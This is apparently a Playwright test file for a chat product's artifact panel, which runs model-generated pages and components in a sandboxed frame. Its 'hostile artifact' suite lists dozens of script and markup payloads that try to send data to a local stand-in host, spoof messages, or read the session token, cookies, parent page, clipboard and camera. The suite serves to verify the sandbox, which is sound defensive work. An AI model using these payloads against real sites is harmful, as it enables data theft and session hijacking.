import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { type AddressInfo, createServer, type Server } from 'node:net';

import type { Page } from 'playwright-core';

import { parseChart, writeChartBlock } from '../../src/shared/chart.ts';
import { chunk, DONE, type ScriptedResponse } from '../vendors/openai-server.ts';
import { ask, browser, faultsInBothThemes, product, useProduct, visit, visitSignedIn } from './product.ts';

const page1 = (heading: string, extra = '') =>
  [
    '```html',
    '<!doctype html>',
    '<html>',
    '<head>',
    '<title>Bread timer</title>',
    '<style>',
    'body { font-family: sans-serif }',
    '</style>',
    '</head>',
    '<body>',
    `<h1>${heading}</h1>`,
    '<button id="go">Start</button>',
    '<p id="out"></p>',
    '<script>',
    'document.getElementById("go").addEventListener("click", () => {',
    '  document.getElementById("out").textContent = "Started";',
    '});',
    '</script>',
    extra,
    '</body>',
    '</html>',
    '```',
  ].join('\n');

const REACT = [
  '```jsx',
  'import { useState } from "react";',
  '',
  '// Counts loaves.',
  'export default function Loaves() {',
  '  const [count, setCount] = useState(0);',
  '  return (',
  '    <button onClick={() => setCount(count + 1)}>',
  '      Loaves: {count}',
  '    </button>',
  '  );',
  '}',
  '```',
].join('\n');

const MERMAID = '```mermaid\nflowchart LR\n  A[Flour] --> B[Dough]\n  B --> C[Loaf]\n```';
const CHART = writeChartBlock(
  parseChart({
    type: 'line',
    title: 'Rising dough',
    x: { label: 'Time', unit: 'min' },
    y: { label: 'Height', unit: 'cm' },
    labels: ['0', '30', '60'],
    series: [
      { name: 'Warm', values: [4, 7.5, 12] },
      { name: 'Cold', values: [4, 4.5, 6] },
    ],
  }),
);
const CSV = '```csv\nFlour,Water\n500,350\n400,280\n"1,000",700\n```';

const edit = (search: string, replace: string) =>
  [
    '```artifact-edit',
    'id: html-bread-timer',
    '<<<<<<< SEARCH',
    `body { ${search} }`,
    '=======',
    `body { ${replace} }`,
    '>>>>>>> REPLACE',
    '<<<<<<< SEARCH',
    '<h1>Bread</h1>',
    '=======',
    '<h1>Dark bread</h1>',
    '>>>>>>> REPLACE',
    '```',
  ].join('\n');

/** What the test hands the model to answer with. */
let hostile = '';

const answerTo = (question: string): string => {
  if (question.includes('title')) return 'A title';
  if (question.includes('darker')) return `Darker:\n\n${edit('font-family: sans-serif', 'font-family: serif')}`;
  if (question.includes('nowhere')) return `Elsewhere:\n\n${edit('Nowhere', 'x')}`;
  if (question.includes('better')) return `Better:\n\n${page1('Bread, better')}`;
  if (question.includes('timer')) return `Here:\n\n${page1('Bread')}`;
  if (question.includes('others')) return [REACT, MERMAID, CSV, CHART].join('\n\n');
  return hostile;
};

const scripted: ScriptedResponse = async (wire, { body }) => {
  const messages = body['messages'] as { role: string; content: string }[];
  const last = messages.at(-1)?.content ?? '';
  await wire.sendEvent(chunk({ content: answerTo(messages[0]?.content.startsWith('Write a title') ? 'title' : last) }));
  await wire.sendEvent(chunk({}, 'stop'));
  await wire.sendBytes(DONE);
  wire.end();
};

useProduct(scripted);

/** The document that an artifact is drawn in: a frame within our frame. */
const drawing = (page: Page) =>
  page.frameLocator('iframe[src="/artifact-frame"]').frameLocator('iframe:not([style*="hidden"])');

test('what an answer makes opens beside the chat, runs, and has its source, versions and changes', async () => {
  const { page, context, faults } = await visitSignedIn(browser, product.url);
  await ask(page, 'Make a timer');
  const card = page.getByRole('button', { name: /^Bread timer/ });
  await card.click();
  await drawing(page).getByRole('button', { name: 'Start' }).click();
  await drawing(page).getByText('Started').waitFor();
  const panel = page.getByTestId('artifact');
  expect(await panel.getByRole('button', { name: 'Changes' }).count()).toBe(0);

  await ask(page, 'Make it better');
  await page.getByRole('log').getByText('Better:').waitFor();
  await drawing(page).getByRole('heading', { name: 'Bread, better' }).waitFor();
  await panel.getByRole('button', { name: 'Changes' }).click();
  expect(await panel.locator('pre').innerText()).toMatch(
    /removed:\s*<h1>Bread<\/h1>\s*\+\s*added:\s*<h1>Bread, better<\/h1>/,
  );
  expect(await faultsInBothThemes(page)).toEqual([]);
  await panel.getByRole('button', { name: 'Source', exact: true }).click();
  await panel.getByText('font-family').waitFor();
  expect(await faultsInBothThemes(page)).toEqual([]);
  await panel.getByText('Bread, better').dblclick();
  await panel.getByRole('button', { name: 'Ask to change this part' }).click();
  const composer = page.getByPlaceholder('Ask anything');
  expect(await composer.inputValue()).toMatch(/^In “Bread timer”, change this part:\n\n> \S+/);
  await page.waitForFunction(() => document.activeElement?.tagName === 'TEXTAREA');
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    panel.getByRole('button', { name: 'Download' }).click(),
  ]);
  expect(file.suggestedFilename()).toBe('Bread-timer.html');
  await panel.getByRole('button', { name: 'Preview' }).click();
  await page.evaluate(() => {
    window.print = () => undefined;
  });
  await panel.getByRole('button', { name: 'Print' }).click();
  await page.emulateMedia({ media: 'print' });
  expect(await panel.locator('iframe').boundingBox()).toEqual({ x: 0, y: 0, width: 1440, height: 900 });
  expect(await card.first().isVisible()).toBe(false);
  await page.emulateMedia({ media: 'screen' });
  await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
  await panel.getByRole('button', { name: 'Close' }).click();
  await panel.waitFor({ state: 'detached' });
  expect(await card.first().evaluate((button) => button === document.activeElement)).toBe(true);

  await card.last().click();
  await panel.getByRole('button', { name: 'Edit', exact: true }).click();
  const box = panel.getByRole('textbox', { name: 'Text of Bread timer' });
  const made = await box.inputValue();
  await box.fill(made.replace('Bread, better', 'My own bread'));
  expect(await faultsInBothThemes(page)).toEqual([]);
  // A draft is carried over a reload, and asked for before the panel closes.
  await page.reload();
  await card.last().click();
  await panel.getByRole('button', { name: 'Edit', exact: true }).click();
  expect(await box.inputValue()).toContain('My own bread');
  await panel.getByRole('button', { name: 'Close' }).click();
  await page.getByRole('alertdialog').getByRole('button', { name: 'Cancel' }).click();
  // The browser undoes what the tab key did; Escape gives the key back to the page.
  await box.focus();
  await page.keyboard.press('Control+Home');
  await page.keyboard.press('Tab');
  expect(await box.inputValue()).toMatch(/^ {2}<!doctype/);
  await page.keyboard.press('Control+z');
  expect(await box.inputValue()).toMatch(/^<!doctype/);
  await page.keyboard.press('Control+s');
  await panel.getByText('Saved as your version.').waitFor();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Tab');
  expect(await box.evaluate((element) => element === document.activeElement)).toBe(false);
  await page.reload();
  await page.getByRole('button', { name: /^Bread timer.*Changed by hand/ }).click();
  await drawing(page).getByRole('heading', { name: 'My own bread' }).waitFor();
  expect(await panel.getByRole('group', { name: 'Versions' }).innerText()).toMatch(/3\/3\s*Your version/);
  await panel.getByRole('button', { name: 'Delete your version' }).click();
  await page.getByRole('alertdialog').getByRole('button', { name: 'Delete your version' }).click();
  await drawing(page).getByRole('heading', { name: 'Bread, better' }).waitFor();
  expect(faults).toEqual([]);
  await context.close();
}, 90_000);

test('a page with an unfinished end is shown once nothing more comes', async () => {
  const { page, context } = await visitSignedIn(browser, product.url);
  const ends = ['<style>\np { color: red', '<!-- the', '<script>\nf(', '<textarea>', '<script>window.stop()</script>'];
  for (const [at, end] of ends.entries()) {
    const whole = page1(`Page ${at}`, end);
    // Two of the answers break off there.
    hostile = at < 2 ? whole.slice(0, whole.indexOf(end) + end.length) : whole;
    await ask(page, 'Write');
    if (at === 0) await page.getByRole('button', { name: /^Bread timer/ }).click();
    await drawing(page)
      .getByRole('heading', { name: `Page ${at}` })
      .waitFor();
  }
  await context.close();
}, 90_000);

test('an edit changes what is drawn, is found by a search, and one that does not fit changes nothing', async () => {
  const { page, context, faults } = await visitSignedIn(browser, product.url);
  await ask(page, 'Make a timer');
  await page.getByRole('button', { name: /^Bread timer/ }).click();
  await drawing(page).getByRole('heading', { name: 'Bread' }).waitFor();
  await ask(page, 'Make it darker');
  await drawing(page).getByRole('heading', { name: 'Dark bread' }).waitFor();
  const panel = page.getByTestId('artifact');
  await panel.getByText('2/2').waitFor();
  await panel.getByRole('button', { name: 'Changes' }).click();
  expect(await panel.locator('pre').innerText()).toMatch(
    /removed:\s*<h1>Bread<\/h1>\s*\+\s*added:\s*<h1>Dark bread<\/h1>/,
  );
  await ask(page, 'Change it nowhere');
  await page.getByText('The change to “Bread timer” was not applied').waitFor();
  await panel.getByText('2/2').waitFor();
  expect(await faultsInBothThemes(page)).toEqual([]);
  await page.reload();
  await page.getByRole('button', { name: /^Bread timer Web page · 2 changes/ }).waitFor();
  await page.getByRole('searchbox').fill('dark bread');
  await page.getByTestId('chat-item').filter({ hasText: 'In “Bread timer”:' }).first().click();
  await drawing(page).getByRole('heading', { name: 'Dark bread' }).waitFor();
  expect(page.url()).toMatch(/\/a\/html-bread-timer$/);
  await page.getByRole('button', { name: 'Ask again for the whole text' }).click();
  await page.getByText('The change to “Bread timer” could not be applied. Write its whole text again').waitFor();
  expect(faults).toEqual([]);
  await context.close();
}, 90_000);

test('somebody who reads a shared chat sees what it made, and cannot ask for changes', async () => {
  const { page, context } = await visitSignedIn(browser, product.url);
  await ask(page, 'Make a timer');
  await page.getByRole('button', { name: /^Bread timer/ }).waitFor();
  await page
    .locator('main')
    .getByRole('button', { name: /^More for/ })
    .click();
  await page.getByRole('menuitem', { name: 'Share…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Share conversation' });
  await dialog.getByRole('button', { name: 'Create link' }).click();
  const reader = await visit(browser, (await dialog.getByRole('link').getAttribute('href')) ?? '');
  await reader.page.getByRole('button', { name: /^Bread timer/ }).click();
  await drawing(reader.page).getByRole('button', { name: 'Start' }).click();
  await drawing(reader.page).getByText('Started').waitFor();
  const panel = reader.page.getByTestId('artifact');
  await panel.getByRole('button', { name: 'Source', exact: true }).click();
  await panel.getByText('font-family').dblclick();
  expect(await panel.getByRole('button', { name: 'Ask to change this part' }).count()).toBe(0);
  await Promise.all([context.close(), reader.context.close()]);
}, 90_000);

test('components, diagrams, tables and charts are drawn over the page of a phone', async () => {
  const { page, context, faults } = await visitSignedIn(browser, product.url, { phone: true });
  await ask(page, 'Make the others');
  const panel = page.getByTestId('artifact');
  const close = panel.getByRole('button', { name: 'Close' });
  await page.getByRole('button', { name: /^Loaves/ }).click();
  await drawing(page).getByRole('button', { name: 'Loaves: 0' }).click();
  await drawing(page).getByRole('button', { name: 'Loaves: 1' }).waitFor();
  await close.click();
  await page.getByRole('button', { name: /^Diagram/ }).click();
  await drawing(page).getByText('Dough').waitFor();
  await close.click();
  await page.getByRole('button', { name: /^Table/ }).click();
  await panel.getByRole('cell', { name: '1,000' }).waitFor();
  await close.click();
  const chart = page.getByRole('figure', { name: 'Rising dough' });
  await chart.getByRole('group', { name: /arrow keys/ }).press('End');
  expect(await chart.getByRole('status').innerText()).toBe('60: Warm 12 cm, Cold 6 cm');
  await chart.getByRole('button', { name: 'Show the data' }).click();
  expect(await faultsInBothThemes(page)).toEqual([]);
  await chart.getByRole('button', { name: 'Open beside the chat' }).click();
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    panel.getByRole('button', { name: 'Download', exact: true }).click(),
  ]);
  expect(file.suggestedFilename()).toBe('Rising-dough.csv');
  expect(await faultsInBothThemes(page)).toEqual([]);
  await close.click();

  const beginPrinting = () => page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
  const sheet = page.getByTestId('print-sheet');
  await page.getByRole('button', { name: 'Copy', exact: true }).last().click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied).toContain('*Line chart: Height by Time*\n\n| Time (min) | Warm (cm) | Cold (cm) |\n');
  await beginPrinting();
  await page.emulateMedia({ media: 'print' });
  await sheet.getByRole('figure', { name: 'Rising dough' }).getByRole('cell', { name: '7.5' }).waitFor();
  await page.emulateMedia({ media: 'screen' });
  await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
  await page.getByRole('button', { name: 'Open in document view' }).click();
  const inDocument = page.getByTestId('document-view').getByRole('figure', { name: 'Rising dough' });
  await inDocument.getByRole('group', { name: /arrow keys/ }).press('End');
  expect(await inDocument.getByRole('status').innerText()).toBe('60: Warm 12 cm, Cold 6 cm');
  await beginPrinting();
  expect(await sheet.count()).toBe(0);
  expect(await faultsInBothThemes(page)).toEqual([]);
  expect(faults).toEqual([]);
  await context.close();
}, 90_000);

describe('a hostile artifact', () => {
  /** Everything that reached the host that no artifact may reach. */
  const reached: string[] = [];
  let host: Server;
  const stun = createSocket('udp4');
  let url = '';
  let stunUrl = '';

  beforeAll(async () => {
    host = createServer((socket) => {
      reached.push('a connection');
      socket.on('data', (bytes) => reached.push(bytes.toString().split('\r\n', 1)[0] ?? ''));
      socket.on('error', () => undefined);
    }).listen(0, '127.0.0.1');
    await once(host, 'listening');
    url = `http://127.0.0.1:${(host.address() as AddressInfo).port}`;
    stun.on('message', () => reached.push('a datagram'));
    stun.bind(0, '127.0.0.1');
    await once(stun, 'listening');
    stunUrl = `stun:127.0.0.1:${stun.address().port}`;
  });
  afterAll(() => {
    host.close();
    stun.close();
  });

  const rtc = (): string =>
    `const c = new RTCPeerConnection({ iceServers: [{ urls: "${stunUrl}" }] });` +
    'c.createDataChannel("x"); c.createOffer().then((offer) => c.setLocalDescription(offer));';

  /** Ways out, each a piece of script that runs by itself. `got` reports what should not have been had. */
  const SCRIPTS = (): Readonly<Record<string, string>> => ({
    fetch: `fetch("${url}/fetch")`,
    'fetch without cors': `fetch("${url}/nocors", { mode: "no-cors", keepalive: true })`,
    'a request of the old kind': `const x = new XMLHttpRequest(); x.open("GET", "${url}/xhr"); x.send()`,
    'a web socket': `new WebSocket("${url.replace('http', 'ws')}/ws")`,
    'an event source': `new EventSource("${url}/events")`,
    'a beacon': `navigator.sendBeacon("${url}/beacon", "x")`,
    'a picture': `new Image().src = "${url}/image"`,
    'a sound': `new Audio("${url}/audio").play()`,
    'a font': `new FontFace("x", 'url("${url}/font")').load().then((f) => document.fonts.add(f))`,
    'an imported style':
      `const s = document.createElement("style"); s.textContent = ` +
      `'@import "${url}/style"'; document.head.append(s)`,
    'a background': `document.body.style.backgroundImage = 'url("${url}/background")'`,
    'an imported module': `import("${url}/module.js")`,
    'a foreign script':
      `const s = document.createElement("script"); ` + `s.src = "${url}/script.js"; document.head.append(s)`,
    'a module of the page': 'import("/sw.js").then(() => got("module"))',
    'a worker': `new Worker(URL.createObjectURL(new Blob(['fetch("${url}/worker")'])))`,
    'a shared worker': `new SharedWorker("data:text/javascript,fetch('${url}/shared')")`,
    'a service worker': 'navigator.serviceWorker.register("/sw.js").then(() => got("service worker"))',
    'leaving for a host': `location.href = "${url}/navigation"`,
    'leaving for a data address': `location.href = 'data:text/html,<script>fetch("${url}/data")<\\/script>'`,
    'leaving for a blob':
      `location.href = URL.createObjectURL(new Blob(['<script>fetch("${url}/blob")<\\/script>'], { type: ` +
      `"text/html" }))`,
    'taking the whole page away': `top.location.href = "${url}/top"`,
    'taking the frame away': `parent.location.href = "${url}/parent"`,
    'a new window': `if (window.open("${url}/window")) got("window")`,
    'a form':
      `document.body.insertAdjacentHTML("beforeend", '<form action="${url}/form" method="post"><input ` +
      `name="a"></form>'); document.forms[0].submit()`,
    'a form for the whole page':
      `document.body.insertAdjacentHTML("beforeend", '<form action="${url}/topform" target="_top"></form>'); ` +
      'document.forms[document.forms.length - 1].submit()',
    'a link that is clicked':
      `const a = document.createElement("a"); a.href = "${url}/link"; a.target = "_blank"; a.ping = "${url}/ping"; ` +
      'document.body.append(a); a.click()',
    'a download':
      `const a = document.createElement("a"); a.href = ` + `"data:text/plain,x"; a.download = "x.exe"; a.click()`,
    'a hint to connect':
      `const l = document.createElement("link"); l.rel = "preconnect"; ` + `l.href = "${url}"; document.head.append(l)`,
    'a hint in markup':
      `document.body.insertAdjacentHTML("beforeend", '<link rel="preconnect" href="${url}"><link rel="prefetch" ` +
      `href="${url}/prefetch">')`,
    'rules of speculation':
      `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ ` +
      `prerender: [{ source: "list", urls: ["${url}/prerender"] }] }); document.head.append(s)`,
    'a peer': rtc(),
    'a peer of a frame':
      `document.body.insertAdjacentHTML("beforeend", "<iframe ` +
      `srcdoc='<script>${rtc().replaceAll('"', '&quot;')}</scr" + "ipt>'></iframe>")`,
    'a peer of a frame that was made':
      `const f = document.createElement("iframe"); f.srcdoc = '<script>${rtc()}</scr' + 'ipt>'; ` +
      'document.body.append(f)',
    'a peer of a frame that was cloned':
      `const d = new DOMParser().parseFromString('<iframe srcdoc="<script>${rtc().replaceAll('"', '&quot;')}</scr' + ` +
      `'ipt>"></iframe>', 'text/html'); document.body.append(document.importNode(d.body, true))`,
    'a peer in a shadow':
      `const h = document.createElement("div"); document.body.append(h); h.attachShadow({ mode: ` +
      `"closed" }).innerHTML = '<iframe srcdoc="<script>${rtc().replaceAll('"', '&quot;')}</scr' + 'ipt>"></iframe>'`,
    'a peer of a frame that runs a script':
      `const f = document.createElement("iframe"); f.src = ${JSON.stringify(`javascript:${rtc()}`)}; ` +
      'document.body.append(f)',
    'a peer of markup that a policy of its own let in':
      `const p = (window.trustedTypes ?? { createPolicy: (_, own) => own }).createPolicy("own", { createHTML: ` +
      `(text) => text }); const d = document.createElement("div"); document.body.append(d); ` +
      'd.setHTMLUnsafe(p.createHTML(shadow))',
    'a peer of markup that is written in pieces':
      'shadow.split("rame").forEach((piece, at) => document.write((at > 0 ? "rame" : "") + piece))',
    'a peer of a frame that cannot be found':
      'Element.prototype.matches = () => false; Element.prototype.querySelectorAll = () => []; ' +
      'Element.prototype.remove = () => undefined; Array.prototype[Symbol.iterator] = function* () {}; ' +
      'document.write("<if"); document.write(frame.slice(3))',
    'a hint from another document':
      `const l = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link", ` +
      `null).documentElement; l.rel = "preconnect"; l.href = "${url}"; document.head.append(l); ` +
      `if (l.localName === "link") got("link")`,
    'a frame of a host': `document.body.innerHTML += '<iframe src="${url}/frame"></iframe>'`,
    'an object': `document.body.innerHTML += '<object data="${url}/object"></object><embed src="${url}/embed">'`,
    'a picture in a drawing':
      `document.body.innerHTML += '<svg><image href="${url}/svg"/><use href="${url}/use#a"/><foreignObject><img ` +
      `src="${url}/foreign"></foreignObject></svg>'`,
    'another base': `document.head.innerHTML += '<base href="${url}/">'; new Image().src = "base.png"`,
    'a refresh':
      `document.head.insertAdjacentHTML("beforeend", '<meta ` +
      `http-equiv="refresh" content="0;url=${url}/refresh">')`,
    'text as code': 'got(eval("1") + new Function("return 1")())',
    'local storage': 'localStorage.setItem("a", "b"); got("localStorage")',
    'session storage': 'sessionStorage.setItem("a", "b"); got("sessionStorage")',
    cookies: 'document.cookie = "a=b"; got("cookie " + document.cookie)',
    'a database': 'const r = indexedDB.open("a"); r.onsuccess = () => got("indexedDB")',
    caches: 'caches.open("a").then(() => got("caches"))',
    'the page above': 'got(top.document.body.innerHTML)',
    'the frame above': 'got(parent.document.body.innerHTML)',
    'the session of the page': 'got(top.localStorage.getItem("session"))',
    'a dialog': 'if (confirm("x")) got("dialog")',
    'the clipboard': 'navigator.clipboard.readText().then(() => got("clipboard"))',
    'the camera': 'navigator.mediaDevices.getUserMedia({ video: true }).then(() => got("camera"))',
    'a secure transport': `new WebTransport("${url.replace('http', 'https')}/transport")`,
  });

  /** The same without any script, as markup that the parser meets. */
  const MARKUP = (): readonly string[] => [
    `<img src="${url}/m1" srcset="${url}/m2 2x">`,
    `<link rel="stylesheet" href="${url}/m3"><link rel="icon" href="${url}/m4"><link rel="preconnect" href="${url}">`,
    `<link rel="dns-prefetch" href="${url}"><link rel="modulepreload" href="${url}/m5">`,
    `<iframe src="${url}/m6"></iframe><iframe srcdoc="<script>${rtc().replaceAll('"', '&quot;')}</script>"></iframe>`,
    `<object data="${url}/m7"></object><embed src="${url}/m8"><video src="${url}/m9" poster="${url}/m10"></video>`,
    `<audio src="${url}/m11" autoplay></audio><script src="${url}/m12"></script><body background="${url}/m13">`,
    `<svg><image href="${url}/m14"/><script href="${url}/m15"></script></svg><input type="image" src="${url}/m16">`,
    `<style>@import "${url}/m17"; p::after { content: url("${url}/m18") }</style><p>x</p>`,
    `<template shadowrootmode="open"><iframe ` +
      `srcdoc="<script>${rtc().replaceAll('"', '&quot;')}</script>"></iframe></template>`,
    `<meta http-equiv="refresh" content="0;url=${url}/m19">`,
  ];

  /** Draws each of these by itself in our frame, as the panel does but without its attribute: the policy must do. */
  const drawEach = (page: Page, sources: readonly string[]): Promise<void> =>
    page.evaluate(async (all) => {
      const frame = document.createElement('iframe');
      let last = -1;
      window.addEventListener('message', ({ source, data }) => {
        if (source === frame.contentWindow) last = data.draw;
      });
      frame.src = '/artifact-frame';
      document.body.append(frame);
      while (last < 0) await fetch('/healthz');
      for (const [at, source] of all.entries()) {
        frame.contentWindow?.postMessage(
          { draw: at + 1, kind: 'html', source, growing: false, theme: 'light', library: '' },
          '*',
        );
        // Whoever leaves is never drawn. What it asked a host for is asked by then, and would be answered as soon.
        for (let round = 0; round < 12 && last !== at + 1; round += 1) await fetch('/healthz');
      }
      for (let round = 0; round < 50; round += 1) await fetch('/healthz');
    }, sources);

  test('reaches neither a host, nor the page, nor what the person is signed in with', async () => {
    const scripts = Object.entries(SCRIPTS());
    expect(scripts.length).toBeGreaterThanOrEqual(50);
    // In pieces: the guard reads the source of an artifact, too.
    const frame =
      `const frame = "<if" + ${JSON.stringify(`rame srcdoc="<script>${rtc().replaceAll('"', '&quot;')}`)} + "</scr" ` +
      `+ 'ipt>"></iframe>';`;
    const shadow = 'const shadow = "<div><template shadowrootmode=open>" + frame + "</template></div>";';
    const tries = scripts.map(
      ([name, code]) =>
        `<p>x</p><script>const got = (what) => console.log("had: ${name} " + what); ` +
        `${frame} ${shadow} ${code}</script>`,
    );
    const { page, context } = await visitSignedIn(browser, product.url);
    const had: string[] = [];
    page.on('console', (message) => {
      if (message.text().startsWith('had:')) had.push(message.text());
    });
    const token = () => page.evaluate(() => JSON.parse(localStorage.getItem('session') ?? '{}').token as string);
    const before = await token();
    await drawEach(page, ['<script>console.log("had: a voice")</script>', ...tries, ...MARKUP()]);
    expect([had, reached]).toEqual([['had: a voice'], []]);
    expect([new URL(page.url()).origin, context.pages().length]).toEqual([product.url, 1]);
    expect(await token()).toBe(before);
    await context.close();
  }, 90_000);

  test('cannot say to the page that it is somebody else', async () => {
    hostile = page1(
      'Trap',
      '<script>for (const to of [top, parent]) to.postMessage({ draw: 1, failed: "lied" }, "*")</script>',
    );
    const { page, context, faults } = await visitSignedIn(browser, product.url);
    await ask(page, 'Attack');
    await page.getByRole('button', { name: /^Bread timer/ }).click();
    await drawing(page).getByRole('heading', { name: 'Trap' }).waitFor();
    expect([await page.getByText('lied').count(), faults]).toEqual([0, []]);
    await context.close();
  }, 60_000);

  test('that fails without end is told of once', async () => {
    const faults = 'let at = 0; setInterval(() => { throw new Error("fault " + ++at); }, 1)';
    hostile = REACT.replace('=> setCount(count + 1)', `=> { setCount(count + 1); ${faults}; }`);
    const { page, context } = await visitSignedIn(browser, product.url);
    await ask(page, 'Attack');
    await page.getByRole('button', { name: /^Loaves/ }).click();
    await drawing(page).getByRole('button', { name: 'Loaves: 0' }).click();
    const told = page.getByTestId('artifact').getByRole('status').filter({ hasText: 'fault' });
    await told.waitFor();
    await drawing(page).getByRole('button', { name: 'Loaves: 1' }).click();
    await drawing(page).getByRole('button', { name: 'Loaves: 2' }).waitFor();
    expect(await told.textContent()).toMatch(/fault 1\b/);
    await context.close();
  }, 60_000);

  test('the host that must see nothing does see what is let out', async () => {
    await fetch(`${url}/seen`, { signal: AbortSignal.timeout(500) }).catch(() => undefined);
    expect(reached).toContain('GET /seen HTTP/1.1');
  });
});
